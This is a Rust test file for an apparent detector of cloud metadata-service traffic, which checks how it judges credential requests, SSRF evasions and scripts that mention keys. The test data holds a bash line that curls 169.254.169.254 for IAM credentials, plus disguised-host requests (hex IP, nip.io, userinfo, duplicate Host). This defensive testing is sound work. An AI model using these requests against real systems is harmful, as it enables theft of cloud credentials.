            let request = format!("GET {}?{query} HTTP/1.1\nHost: {host}{headers}", pattern.sample());
            imds(&request, &ok(&aws_keys()), "93.184.216.34:80");
            let got = imds(&request, "", &server);
            let told = got.as_ref().map(|i| (i.provider, i.path_id.unwrap_or("-"), i.sensitivity));
            if told != Some((&entry.provider, entry.id(), entry.sensitivity)) {
                missed.push(format!("{} {} {} -> {told:?}", entry.id(), server, pattern.sample()));
            }
        }
    }
    // Behind an entry that is more exact or comes first, or no metadata traffic by path alone.
    let hidden = [
        "aws-iid-signed",
        "aws-metadata-other",
        "aws-ecs-agent-introspect",
        "aws-lambda-next",
        "cs-userdata",
        "upc-json",
        "ncp-creds",
    ];
    let missed: Vec<_> = missed.iter().filter(|m| !hidden.iter().any(|id| m.starts_with(id))).collect();
    assert!(missed.is_empty(), "{missed:#?}");
}

#[test]
fn any_exchange_is_judged_without_panic_and_without_secrets_in_debug_output() {
    use proptest::prelude::*;
    let mut runner = proptest::test_runner::TestRunner::deterministic();
    let path = "(/(latest|meta-data|iam|security-credentials|computeMetadata|v1|token|%2e%2e|[a-z%/.?#&=]{0,8})){0,6}";
    let header = "(Host: |Authorization: Bearer |Metadata-Flavor: |X-Metadata-Token: |Content-Encoding: )[ -~]{0,24}";
    let body =
        proptest::collection::vec(prop_oneof![Just(b'"'), Just(b'{'), Just(b':'), Just(b'\\'), any::<u8>()], 0..80);
    let server = prop_oneof![Just(AWS), Just("100.100.100.200:80"), Just("127.0.0.1:51679"), Just("93.184.216.34:80")];
    let detector = std::cell::RefCell::new(detector());
    runner
        .run(&(path, header, body, server), |(path, header, body, server)| {
            let mut tx = exchange(&format!("GET {path} HTTP/1.1\n{header}"), "HTTP/1.1 200 OK", server);
            tx.request.as_mut().unwrap().body.captured = body.clone();
            tx.response.as_mut().unwrap().body.captured = body;
            let verdict = judged(&mut detector.borrow_mut(), &tx);
            if let Some(imds) = verdict.imds {
                assert!(imds.path.is_empty() || imds.path.starts_with('/'));
            }
            Ok(())
        })
        .unwrap();
}

#[test]
fn a_part_of_a_document_is_judged_as_a_part() {
    let whole = aws_keys();
    let cut = whole.find("\"Expiration\"").unwrap();
    let first = format!("HTTP/1.1 206 Partial Content\nServer: EC2ws\n\n{}", &whole[..cut]);
    assert!(imds(ROLE, &first, AWS).unwrap().credential.unwrap().issued);
    let rest = format!("HTTP/1.1 206 Partial Content\nServer: EC2ws\n\n{}", &whole[cut + 1..]);
    assert!(!imds(ROLE, &rest, AWS).unwrap().credential.unwrap().issued);
}

/// What agents and boot scripts hold has the same words in it.
#[test]
fn scripts_and_settings_that_mention_keys_are_no_credentials() {
    let script = "#!/bin/bash\ncurl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/r |\n  jq -r '.AccessKeyId, .SecretAccessKey, .Token, .Expiration' # Code Success\n";
    for body in [script.to_owned(), serde_json::json!({ "script": script, "Code": "Success" }).to_string()] {
        let got = imds("GET /latest/user-data HTTP/1.1\nHost: 169.254.169.254", &ok(&body), AWS).unwrap();
        assert_eq!((got.sensitivity, got.credential), (Sensitivity::UserData, None), "{body}");
    }
    let settings = r#"{"extensionGoalStates":[{"name":"x","settings":[{"protectedSettings":"MIIB0123456789abcdef","code":"Failed/x"}],"error":{"a":1}}]}"#;
    let request = "GET /vmSettings HTTP/1.1\nHost: 168.63.129.16:32526\nx-ms-version: 2015-09-01";
    let got = imds(request, &format!("HTTP/1.1 200 OK\n\n{settings}"), "168.63.129.16:32526").unwrap();
    assert_eq!((got.path_id, got.credential.map(|c| c.issued)), (Some("azure-hga-vmsettings"), Some(true)));
}

#[test]
fn a_tunnel_of_ones_own_to_the_service_is_no_forgery() {
    let kinds = |via: &str| {
        let tx = Transaction { via: Some(via.as_bytes().into()), ..exchange(ROLE, &ok(&aws_keys()), "192.0.2.8:3128") };
        detector().http(&tx, true).candidates.iter().map(|c| c.kind).collect::<Vec<_>>()
    };
    assert_eq!(kinds("169.254.169.254:80"), []);
    assert_eq!(kinds("shop.example:80"), [CandidateKind::Attempt]);
}

/// Requests asked again and again, among others: each is judged as if it were the first.
#[test]
fn what_is_remembered_changes_no_verdict() {
    let requests = [
        (ROLE, AWS),
        ("GET /latest/meta-data/iam/security-credentials/demo HTTP/1.1\nHost: 169.254.169.254.nip.io", AWS),
        ("GET /latest/meta-data/iam/security-credentials/demo HTTP/1.1\nHost: example.com\nVia: x", AWS),
        ("GET /latest/meta-data/iam/security-credentials/demo HTTP/1.1\nHost: u@169.254.169.254", AWS),
        ("GET /latest/meta-data/iam/security-credentials/demo HTTP/1.1\nHost: 169.254.169.254\nHost: x.example", AWS),
        ("GET /latest/meta-data/iam/security-credentials/demo?x=y HTTP/1.1\nHost: 169.254.169.254", AWS),
        ("GET /latest//meta-data/iam/ HTTP/1.1\nHost: 0xA9FEA9FE\nUser-Agent: abcdefghijklm0123456789/1", AWS),
        ("GET /latest/user-data/abcdefghij0123456789 HTTP/1.1\nHost: 169.254.169.254", AWS),
        ("GET /computeMetadata/v1/instance/service-accounts HTTP/1.1\nHost: metadata\nMetadata-Flavor: Google", AWS),
        ("GET /v2/credentials/6ba7b810-9dad-11d1-80b4-00c04fd430c8 HTTP/1.1\nHost: 169.254.170.2", "169.254.170.2:80"),
        ("CONNECT 169.254.169.254:80 HTTP/1.1\nHost: 169.254.169.254", AWS),
        ("GET /latest/meta-data/iam/security-credentials/demo HTTP/1.1\nHost: 169.254.169.254", "10.0.0.1:80"),
    ];
    let mut old = detector();
    for (request, server) in requests.iter().cycle().take(3 * requests.len()) {
        let tx = exchange(request, &ok(&aws_keys()), server);
        let mut new = detector();
        old.memory = Memory::default();
        let (got, want) = (old.http(&tx, true), new.http(&tx, true));
        assert_eq!((got.imds, got.carried), (want.imds, want.carried), "{request}");
    }
    // the first, the disguised address and the name; neither queries, users, nor what looks like a secret
    assert_eq!(old.questions.len(), 3);
}
